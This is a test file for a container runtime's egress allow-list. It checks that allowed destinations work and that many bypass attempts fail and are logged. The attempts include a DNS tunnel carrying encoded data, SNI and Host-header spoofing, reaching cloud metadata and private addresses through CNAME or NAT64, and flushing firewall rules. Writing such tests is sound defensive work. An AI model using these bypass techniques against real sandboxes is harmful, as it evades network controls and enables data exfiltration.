import { expect } from 'vitest';
import { Container, type ContainerOptions } from '../../../lib/index.js';
import { egressScenarios, type Told } from '../../fixtures/egress/scenarios.js';
import { useLeakCheck } from '../../fixtures/leaks.js';
import { requires } from '../../fixtures/requires.js';

// Whole containers, with a world beside a machine of their own: what their list allows works, and no way leads around it.
const { describe, it } = requires({ root: true, tools: ['unshare', 'nsenter', 'ip', 'dnsmasq', 'openssl', 'nft', 'mount', 'umount'] });

useLeakCheck();
const scenario = egressScenarios('egress');

const attempt = (attempts: Record<string, string>, options: object): Promise<Told & { asked: string[] }> =>
  scenario('attempts', { attempts, options });

const LIST = {
  allow: [
    ...['good.example', 'six.example', '*.wild.example:443', 'db.example:5432', '10.1.0.0/16:5432', '11.1.0.9'],
    ...['metadata.example', 'private.example', 'unique-local.example', 'loopback.example', 'loopback6.example', 'zero.example'],
    ...['own.example', 'own6.example', 'cname.example', 'cname-good.example', 'mapped.example', 'nat64.example', '6to4.example'],
    ...['denied-address.example', 'mixed.example'],
  ],
  deny: ['bad.wild.example', '11.1.0.3'],
};

describe('a container with a list', () => {
  it('reaches what that allows, by any program and port, and nothing is told', async () => {
    const { got, refused, asked } = await attempt(
      {
        plain: "tcp('good.example', 80)",
        'server first': "tcp('good.example', 22)",
        'any case, and a dot at the end': "tcp('GoOd.Example.', 80)",
        tls: "over('good.example', 443)",
        'tls in any case': "over('good.example', 443, { servername: 'GOOD.example' })",
        'tls at another port': "over('good.example', 8443)",
        'tls in pieces': "pieces('good.example', 443, 'good.example')",
        ipv6: "tcp('six.example', 80)",
        'below a wildcard': "over('a.wild.example', 443)",
        'a subnet': "tcp('10.1.0.5', 5432)",
        'a name with an address that the list names': "tcp('db.example', 5432)",
        'a name by another': "tcp('cname-good.example', 80)",
        'the public one of two addresses': "tcp('mixed.example', 80)",
      },
      { egress: LIST },
    );
    expect(got).toEqual({
      plain: expect.stringMatching(/^plain (11\.1\.0\.1|2a00:1::1):80$/),
      'server first': expect.stringMatching(/^plain .*:22$/),
      'any case, and a dot at the end': expect.stringMatching(/^plain .*:80$/),
      tls: expect.stringMatching(/^tls good\.example .*:443$/),
      'tls in any case': expect.stringMatching(/^tls GOOD\.example .*:443$/),
      'tls at another port': expect.stringMatching(/^tls good\.example .*:8443$/),
      'tls in pieces': 'an answer',
      ipv6: 'plain 2a00:1::1:80',
      'below a wildcard': 'tls a.wild.example 11.1.0.1:443',
      'a subnet': 'plain 10.1.0.5:5432',
      'a name with an address that the list names': 'plain 10.1.0.5:5432',
      'a name by another': expect.stringMatching(/^plain .*:80$/),
      'the public one of two addresses': 'plain 11.1.0.1:80',
    });
    expect(refused).toEqual([]);
    expect(asked).not.toContain('evil.example');
  });

  const WAYS: Record<string, [code: string, told: [unknown, unknown, unknown] | null]> = {
    'a name that is not on the list': ["tcp('evil.example', 80)", ['evil.example', null, null]],
    'the name above a wildcard': ["tcp('wild.example', 443)", ['wild.example', null, null]],
    'a name that is denied below a wildcard': ["over('bad.wild.example', 443)", ['bad.wild.example', null, null]],
    'another port of an allowed name': ["tcp('a.wild.example', 80)", ['a.wild.example', expect.any(String), 80]],
    'a literal address': ["tcp('11.1.0.2', 80)", [null, '11.1.0.2', 80]],
    'the address of an allowed name': ["tcp('11.1.0.1', 80)", [null, '11.1.0.1', 80]],
    'a literal address of IPv6': ["tcp('2a00:1::1', 80)", [null, '2a00:1::1', 80]],
    'an IPv4-mapped address': ["tcp('::ffff:11.1.0.2', 80)", [null, '11.1.0.2', 80]],
    'an address in digits that C reads': ["tcp('184614914', 80)", null],
    'another port of a subnet': ["tcp('10.1.0.5', 22)", [null, '10.1.0.5', 22]],
    'beside a subnet': ["tcp('10.9.0.9', 5432)", [null, '10.9.0.9', 5432]],
    'metadata by its address': ["tcp('169.254.169.254', 80)", [null, '169.254.169.254', 80]],
    'metadata by a name': ["tcp('metadata.example', 80)", ['metadata.example', '169.254.169.254', 80]],
    'a private address by a name': ["tcp('private.example', 80)", ['private.example', '10.9.0.9', 80]],
    'a unique local address by a name': ["tcp('unique-local.example', 80)", ['unique-local.example', 'fd00:9::9', 80]],
    "the machine's loopback by a name": ["tcp('loopback.example', 80)", ['loopback.example', '127.0.0.1', 80]],
    "the machine's loopback of IPv6 by a name": ["tcp('loopback6.example', 80)", ['loopback6.example', '::1', 80]],
    'zeros by a name': ["tcp('zero.example', 80)", ['zero.example', '0.0.0.0', 80]],
    "the machine's own address by a name": ["tcp('own.example', 80)", ['own.example', '11.0.0.1', 80]],
    "the machine's own address of IPv6 by a name": ["tcp('own6.example', 80)", ['own6.example', '2a00::1', 80]],
    "the machine's own address": ["tcp('11.0.0.1', 80)", [null, '11.0.0.1', 80]],
    'a private address by a CNAME': ["tcp('cname.example', 80)", ['cname.example', '10.9.0.9', 80]],
    'a private address as IPv4-mapped': ["tcp('mapped.example', 80)", ['mapped.example', '::ffff:a09:9', 80]],
    'a private address by NAT64': ["tcp('nat64.example', 80)", ['nat64.example', '64:ff9b::a09:909', 80]],
    'a private address by 6to4': ["tcp('6to4.example', 80)", ['6to4.example', '2002:a09:909::1', 80]],
    'an address that is denied, by a name': ["tcp('denied-address.example', 80)", ['denied-address.example', '11.1.0.3', 80]],
    'TLS to another name': ["over('good.example', 443, { servername: 'evil.example' })", ['evil.example', null, 443]],
    'TLS to another name, in pieces': ["pieces('good.example', 443, 'evil.example')", ['evil.example', null, 443]],
    'TLS to another name at another port': ["over('good.example', 8443, { servername: 'evil.example' })", ['evil.example', null, 8443]],
    'TLS without a name': ["over('good.example', 443, { servername: '' })", ['good.example', null, 443]],
    'no TLS at the port of HTTPS': [
      "tcp('good.example', 443, 'GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
      ['good.example', null, 443],
    ],
    'another resolver over UDP': ["query('evil.example', 'A', '11.0.0.2')", null],
    'another resolver over TCP': ["tcp('11.0.0.2', 53, 'x')", [null, '11.0.0.2', 53]],
    'DNS over TLS': ["over('11.0.0.2', 853, { servername: 'dns.example' })", [null, '11.0.0.2', 853]],
    'DNS over HTTPS by an address': ["over('11.0.0.2', 443, { servername: 'dns.example' })", [null, '11.0.0.2', 443]],
    'DNS over HTTPS by a name': ["over('dns.google', 443)", ['dns.google', null, null]],
    'QUIC to an address': ["udp('11.1.0.1', 443)", null],
    'QUIC to a name': ["lookup('good.example', 4).then((address) => udp(address, 443))", null],
    'QUIC of IPv6': ["lookup('good.example', 6).then((address) => udp(address, 443))", null],
    'a tunnel in questions': ["query('c2VjcmV0.tunnel.example', 'TXT')", null],
    'a tunnel below an allowed name': ["query('c2VjcmV0.good.example', 'A')", ['c2vjcmv0.good.example', null, null]],
    'a record of HTTPS': ["query('good.example', 'TXT')", null],
    'the listener itself': ["tcp('198.18.0.1', 1, 'x')", [null, '198.18.0.1', 1]],
    'the listener of IPv6 itself': ["tcp('fd6e:6163:656c:6c65::1', 1, 'x')", [null, 'fd6e:6163:656c:6c65::1', 1]],
    'an address that stands for no name': ["tcp('198.18.77.77', 80)", [null, '198.18.77.77', 80]],
    broadcast: ["udp('255.255.255.255', 443)", null],
  };

  it('finds no way around it, and each refusal is told', async () => {
    const { got, refused, asked } = await attempt(Object.fromEntries(Object.entries(WAYS).map(([name, [code]]) => [name, code])), {
      egress: LIST,
    });
    const errors = expect.stringMatching(/^(E[A-Z_]+|closed|no answer|ERR_[A-Z_]+)$/);
    expect(got).toEqual(Object.fromEntries(Object.keys(WAYS).map((name) => [name, errors])));
    const told = Object.values(WAYS).flatMap(([, one]) => (one === null ? [] : [one]));
    expect(refused).toEqual(expect.arrayContaining(told));
    // nobody outside was asked about a name that the list does not have
    const others = asked.filter((name) => !LIST.allow.includes(name) && !name.endsWith('.wild.example'));
    expect(others).toEqual([]);
  });

  it('has it in inspect(), with ports of the caller beside it, and after a kill of what serves it', async () => {
    const good = { good: expect.stringMatching(/^plain (11\.1\.0\.1|2a00:1::1):80$/) };
    expect(await scenario('life')).toEqual({
      egress: { allow: ['good.example', '[2a00:1::/64]:80'], deny: ['*.evil.example:443'] },
      first: { ...good, caller: 'the caller', other: expect.stringMatching(/^E[A-Z]+$/) },
      after: { 'nacelle-relay': good, 'nacelle-connect': good },
    });
  });

  it('is not held up by another whose connections wait for nobody', async () => {
    const good = { good: expect.stringMatching(/^plain /) };
    expect(await scenario('blackHole')).toEqual({ other: { caller: 'the caller' }, good, first: 'ready' });
  });

  it.each([
    [{ network: 'host' }, "needs network: 'none'"],
    [{ network: 'pasta' }, "needs network: 'none'"],
    [{ namespaces: { net: 'host' } }, "needs network: 'none'"],
    [{ dns: ['192.0.2.1'] }, "can't go with dns"],
    [{ isolation: 'landlock' }, 'it has no network of its own'],
  ])('is refused beside %j', async (options, why) => {
    const given = { image: 'host', command: ['true'], egress: { allow: ['a.example'] }, ...options } as const;
    await expect(Container.run(given as ContainerOptions)).rejects.toMatchObject({
      code: 'ERR_INVALID_OPTION',
      message: expect.stringContaining(why),
    });
    await expect(Container.run(given as ContainerOptions)).rejects.toThrow(/option egress: /);
  });

  it('finds none with rights over its network either', async () => {
    const { got } = await attempt(
      {
        rules:
          "new Promise((resolve, reject) => require('node:child_process').execFile('nft', ['flush', 'ruleset'], (error) => (error ? reject(error) : resolve('flushed'))))",
        allowed: "tcp('good.example', 80)",
        literal: "tcp('11.1.0.2', 80)",
        udp: "udp('11.1.0.1', 443)",
        asked: "tcp('evil.example', 80)",
        listener: "tcp('198.18.0.1', 1, 'x')",
      },
      { egress: LIST, capAdd: ['NET_ADMIN'] },
    );
    const error = expect.stringMatching(/^(E[A-Z_]+|closed|no answer)$/);
    expect(got).toEqual({ rules: 'flushed', allowed: error, literal: error, udp: error, asked: error, listener: error });
  });

  it('would have been reached by these ways without the list', async () => {
    const { got } = await attempt(
      {
        a: "tcp('11.1.0.2', 80)",
        b: "tcp('evil.example', 80)",
        c: "udp('11.1.0.1', 443)",
        d: "over('11.1.0.1', 443, { servername: 'evil.example' })",
      },
      { network: 'host' },
    );
    expect(got).toEqual({ a: 'plain 11.1.0.2:80', b: 'plain 11.1.0.2:80', c: 'quic', d: 'tls evil.example 11.1.0.1:443' });
  });
});
